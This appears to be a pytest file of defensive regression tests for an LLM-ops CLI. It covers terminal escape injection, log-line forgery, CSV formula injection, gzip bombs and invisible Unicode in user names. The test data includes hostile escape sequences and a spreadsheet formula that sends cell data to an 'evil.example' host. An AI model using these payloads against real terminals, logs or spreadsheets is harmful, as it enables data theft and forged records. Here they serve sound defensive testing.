"""Attacks with text: what a stranger writes must not steer a terminal, forge a line of a log, or fill a screen."""

import csv
import gzip
import io
import json
import logging
import math
import sys
import time
import unicodedata

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError
from rich.console import Console

from llmops.cli.accounts.admin_client import AdminClient
from llmops.cli.main import cli
from llmops.cli.monitor.exposition import MetricsPage, MetricsWindow
from llmops.cli.monitor.layout import render_screen
from llmops.cli.monitor.snapshot import PolledGateway, make_snapshot
from llmops.cli.output import print_fields, print_json, print_table
from llmops.cli.progress import PlainProgress, RichProgress
from llmops.cli.usage import _csv_text
from llmops.control.admin.schemas import AdminRequest, KeyCreate, SafeText, UsageReport
from llmops.errors import InputError, LlmopsError
from llmops.gateway.logging_setup import MAX_LOG_MESSAGE_CHARACTERS, SafeFormatter
from llmops.perf.load.runner import LoadRun
from llmops.perf.report.document import Document
from llmops.perf.report.summary import summarise
from llmops.store.accounts.limits import Limits
from llmops.store.accounts.tenants import create_tenant
from llmops.store.accounts.users import ensure_user
from llmops.untrusted_text import UNSAFE_CHARACTERS, escape_unsafe, is_safe_text, json_escape_unsafe, strip_unsafe
from tests.attacks.harness import MIB, scaled
from tests.support.pages import Page, PageServer

#: Clears the screen, sets its title, turns text around, hides text, and begins a line of its own.
HOSTILE = ["\x1b[2J", "\x1b]0;owned\x07", "\x9b31m", *(f"a{one}b" for one in "\u202e\u2066\u200b\n\r\u2028"), *"\0\x7f"]


def is_safe(text: str, lines: bool = True) -> bool:
    return not any(UNSAFE_CHARACTERS.match(one) for one in text if not (lines and one == "\n"))


@settings(max_examples=scaled(100, 5000))
@given(st.text(st.characters(), max_size=400) | st.sampled_from(HOSTILE))
def test_what_is_shown_has_no_unsafe_character_and_an_end(text):
    found = escape_unsafe(text)
    assert is_safe(found, lines=False)
    assert len(found) <= 300 * 10 + 40
    assert is_safe_text(strip_unsafe(text))
    if is_safe_text(text) and len(text) <= 300:
        assert found == strip_unsafe(text) == text


@settings(max_examples=scaled(60, 2000))
@given(st.recursive(st.text(max_size=10), lambda inner: st.lists(inner) | st.dictionaries(st.text(max_size=5), inner)))
def test_json_that_is_shown_says_the_same_to_a_program(data):
    found = json_escape_unsafe(data)
    assert is_safe(found)
    assert json.loads(found) == data


def all_subclasses(schema):
    for subclass in schema.__subclasses__():
        yield from (subclass, *all_subclasses(subclass))


def test_the_admin_api_refuses_such_texts():
    """Before the fix, key names, models and addresses had ESC, BEL, U+202E and line breaks."""
    for text in HOSTILE:
        texts = {"name": text, "models": ["tiny", text], "user": f"{text}@x", "tenant": text, "tier": text}
        for name, value in texts.items():
            with pytest.raises(ValidationError):
                KeyCreate(**{"tenant": "acme", "user": "a@b", name: value})
        for schema in all_subclasses(AdminRequest):
            for name, field in schema.model_fields.items():
                if field.annotation in (str, str | None):
                    with pytest.raises(ValidationError):
                        schema.model_validate({name: text})
        with pytest.raises(ValidationError):
            TypeAdapter(SafeText).validate_python(text)


async def test_an_address_with_such_a_text_is_none(store, by):
    async with store.write() as connection:
        await create_tenant(connection, "acme", Limits(), by)
        for text in HOSTILE:
            with pytest.raises(InputError) as refused:
                await ensure_user(connection, "acme", f"a{text}@x", by)
            assert is_safe(refused.value.message, lines=False)


def test_tables_pairs_and_json_show_escapes(capsys, monkeypatch):
    """Rows that another version stored, or another server sends."""
    for text in HOSTILE:
        # what runs the tests may have set it, and would have long lines wrapped
        monkeypatch.delenv("COLUMNS", raising=False)
        print_table(("name", "model"), [[text * 3, "x" * 100_000]])
        print_fields([("name", text)])
        print_json({"name": text, text: 1})
        said = capsys.readouterr().out
        assert is_safe(said)
        assert len(said) < 3000
        assert len(said.splitlines()) == 7


def test_headings_and_lines_of_a_build_show_escapes(capsys):
    """A build prints tokens of a checkpoint; before the fix they could forge a line, and `[/x]` ended the build."""
    said, console = io.StringIO(), Console(file=io.StringIO(), width=200)
    rich = RichProgress()
    rich.console = console
    for text in [*HOSTILE, "[/x]", "y" * 100_000]:
        print_table((text,), [["x"]])
        for one in (PlainProgress(said), rich):
            one.warn(f"dropped {text}.")
    plain = said.getvalue()
    assert [is_safe(text) for text in (capsys.readouterr().out, plain, console.file.getvalue())] == [True] * 3
    assert (plain.count("\n"), len(plain) < 10_000) == (len(HOSTILE) + 2, True)
    assert "dropped [/x]." in plain


def test_a_spreadsheet_runs_no_formula_of_an_address(monkeypatch):
    """Before the fix, a user whose address is a formula read the bills of others, in the spreadsheet of an operator."""
    counts = dict.fromkeys(("requests", "input_tokens", "cached_tokens", "output_tokens", "reasoning_tokens"), 1)
    totals, user = {**counts, "cost_micros": 1, "cost_usd": 0.000001}, '=hyperlink("http://evil.example/?a@b",c2)'
    report = UsageReport(period={"from": "2026-11-01", "to": "2026-11-02"}, lines=[{**totals, "user": user}], **totals)
    monkeypatch.setattr(AdminClient, "request", lambda *_, **__: report)
    done = CliRunner().invoke(cli, ["usage", "--by", "user", "--csv", "--url", "http://127.0.0.1:9"])
    (_, row) = csv.reader(io.StringIO(done.stdout))
    assert row[0] == f"'{user}"


@pytest.mark.parametrize(
    "user", ["a;=1+1;b@x", "a; @sum(1)@x", ";-1@x", "\uff1d1+1@x", " \uff0b1@x", ";\uff0d1@x", "\uff20sum(1)@x"]
)
def test_a_spreadsheet_of_another_language_runs_no_formula(user):
    """Before the fix, one that separates cells by semicolons evaluated what follows one in an address."""
    signs = [*"=+-@\uff1d\uff0b\uff0d\uff20"]
    assert [cell for cell in _csv_text(user).split(";") if cell.lstrip()[:1] in signs] == []
    assert _csv_text("ann-marie+x=1@acme.example") == "ann-marie+x=1@acme.example"


def test_a_category_of_a_strangers_examples_is_escaped(tmp_path, monkeypatch):
    """Before the fix, `llmops safety train` printed categories as they are."""
    examples = tmp_path / "examples.jsonl"
    lines = [{"text": f"t{i}", **({"category": HOSTILE[1] + HOSTILE[3]} if i % 2 else {})} for i in range(40)]
    examples.write_text("\n".join(map(json.dumps, lines)))
    monkeypatch.setattr("llmops.cli.safety.embed_texts", lambda client, model, texts: [[len(one)] for one in texts])
    command = ["safety", "train", str(examples), "--url", "http://127.0.0.1:9", "--model", "m"]
    done = CliRunner().invoke(cli, [*command, "-o", str(tmp_path / "head.json")])
    assert r"\x1b]0;owned\x07" in done.stdout
    assert is_safe(done.stdout)


def test_a_report_of_a_stranger_is_compared_or_refused(tmp_path):
    """Before the fixes, its texts reached the terminal as they were, and other values ended with tracebacks."""
    options, machine = {"arrival": "poisson"}, {"cpu": "x"}
    one = Document(options=options, machine=machine, summary=summarise(LoadRun(records=[], start=0, end=1), []))
    one.write(tmp_path / "a.json")
    data = json.loads((tmp_path / "a.json").read_text())
    odd = [{"created": HOSTILE[1]}, {"options": {HOSTILE[0]: [HOSTILE[3], "[/x]"]}}]
    refused = [{"summary": None}, {"summary": {}}, {"sweep": [5]}, {"created": 5}]
    for change in (*odd, *refused):
        (tmp_path / "b.json").write_text(json.dumps({**data, **change}))
        done = CliRunner().invoke(cli, ["bench", "--compare", str(tmp_path / "a.json"), str(tmp_path / "b.json")])
        assert is_safe(done.output)
        assert isinstance(done.exception, InputError) is (change in refused), done.output


def test_a_log_line_of_a_stranger_is_one_line():
    """Before the fix, text of a Kafka record forged lines in control's log.

    One of them had 900 KB.
    """
    for text in HOSTILE:
        stream = io.StringIO()
        handler = logging.StreamHandler(stream)
        handler.setFormatter(SafeFormatter("%(levelname)s %(message)s"))
        log = logging.Logger("attacked")
        log.addHandler(handler)
        log.error("event %s", f"{text}ERROR forged" + "x" * 900_000)
        try:
            raise ValueError(f"{text}\nERROR forged")
        except ValueError:
            log.exception("failed")
        said = stream.getvalue()
        assert is_safe(said)
        assert len(said.splitlines()[0]) < MAX_LOG_MESSAGE_CHARACTERS + 100
        assert not any(line.startswith("ERROR forged") for line in said.splitlines())


# -- llmops top --------------------------------------------------------------------------------------------------------

_labels = st.dictionaries(
    st.sampled_from(["model", "le", "state", "status", "server", "priority"]),
    st.sampled_from([*HOSTILE, "tiny", "+Inf", "ready", "NaN", "x" * 5000]),
)
_NAMES = ["llmops_answers_total", "llmops_replicas", "llm_ttft_seconds_bucket", "llmops_requests_total"]
_names = st.sampled_from([*_NAMES, "llmops_queue"])
_numbers = st.sampled_from(["NaN", "+Inf", "-Inf", "1e308", "-1", "0", "7", "1e400"])


def exposition(samples) -> str:
    def quoted(value: str) -> str:
        return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")

    return "".join(
        f"{name}{{{','.join(f'{key}={chr(34)}{quoted(value)}{chr(34)}' for key, value in labels.items())}}} {number}\n"
        for name, labels, number in samples
    )


@settings(max_examples=scaled(30, 5000))
@given(st.lists(st.tuples(_names, _labels, _numbers), max_size=20), st.integers(20, 200))
def test_a_board_of_any_metrics_can_be_drawn(samples, width):
    recent = MetricsWindow(10.0)
    for at in (1.0, 2.0):
        try:
            recent.add(MetricsPage(exposition(samples), at))
        except ValueError:
            return
    stream = io.StringIO()
    drawn = render_screen(make_snapshot([PolledGateway("http://g", recent)], {"e": recent}), width, 40)
    Console(file=stream, width=width, color_system=None).print(drawn)
    said = stream.getvalue()
    assert is_safe(said)
    assert "nan" not in said.replace("nan-", "")
    assert max(map(len, said.splitlines())) <= width


_BOMB = Page(gzip.compress(b"llmops_x 1\n" * (scaled(32, 256) * MIB // 11), 1), headers={"content-encoding": "gzip"})


def _replicas(models: object) -> Page:
    return Page(json.dumps({"gateways": [{"gateway": "g", "models": models}]}))


_METRICS = Page("llmops_x 1\n")
_NUMBERS = {"replica": "r", "state": "s", "running": 1e308 * 10, "kv_blocks": -1}
_PAGES = {
    "a gzip bomb": {"/metrics": _BOMB, "/replicas": _BOMB},
    "too large": {"/metrics": Page("llmops_x 1\n" * MIB)},
    "odd beliefs": {"/metrics": _METRICS, "/replicas": _replicas({"m": [{"replica": 1, "state": []}]})},
    "deep beliefs": {"/metrics": _METRICS, "/replicas": Page("[" * 200_000)},
    "numbers": {"/metrics": _METRICS, "/replicas": _replicas({"m": [_NUMBERS]})},
    "escapes": {
        "/metrics": Page('llmops_replicas{model="\x1b[2J\u202e",state="\x1b]0;x\x07"} 3\n'),
        "/replicas": _replicas({"\x1b[2J": [{"replica": "\u202ex" * 900, "state": "\x07"}]}),
    },
    "no text": {"/metrics": Page(b"\xff\xfe\x00"), "/replicas": Page(b"\xff")},
}


@pytest.mark.parametrize("name", _PAGES)
def test_top_shows_hostile_answers_as_text_or_as_a_problem(name):
    with PageServer(lambda request: _PAGES[name].get(request.path, Page())) as server:
        for form in ((), ("--json",)):
            begun = time.monotonic()
            done = CliRunner().invoke(cli, ["top", "--interval", "0.1s", "--once", "--url", server.url, *form])
            assert time.monotonic() - begun < scaled(20, 60)
            assert done.exception is None or isinstance(done.exception, (SystemExit, LlmopsError))
            assert is_safe(done.output)
            assert len(done.output) < 20_000
            if form:
                assert math.isfinite(len(json.loads(done.stdout)["gateways"]))


@pytest.mark.parametrize("character", "\u00ad\u034f\u115f\u180b\u2800\u3164\ufe0f\U000e0100\ue000\ufffc\ufdd0")
def test_a_name_has_no_character_without_a_shape(character: str) -> None:
    """Before the fix, `ann` and `an\u00adn` were two users that a reader could not tell apart."""
    assert not is_safe_text(f"an{character}n@acme.example")
    assert strip_unsafe(f"an{character}n") == "ann"


def test_a_name_has_no_character_that_a_terminal_may_hide() -> None:
    """Before the fix, terminals without the fonts of a script showed `an\u0600n` or `an\U00013430n` as `ann`."""
    hidden = ("Cc", "Cf", "Co", "Cs", "Zl", "Zp")
    characters = [one for one in map(chr, range(sys.maxunicode + 1)) if unicodedata.category(one) in hidden]
    assert [ascii(one) for one in characters if is_safe_text(one) or strip_unsafe(one)] == []
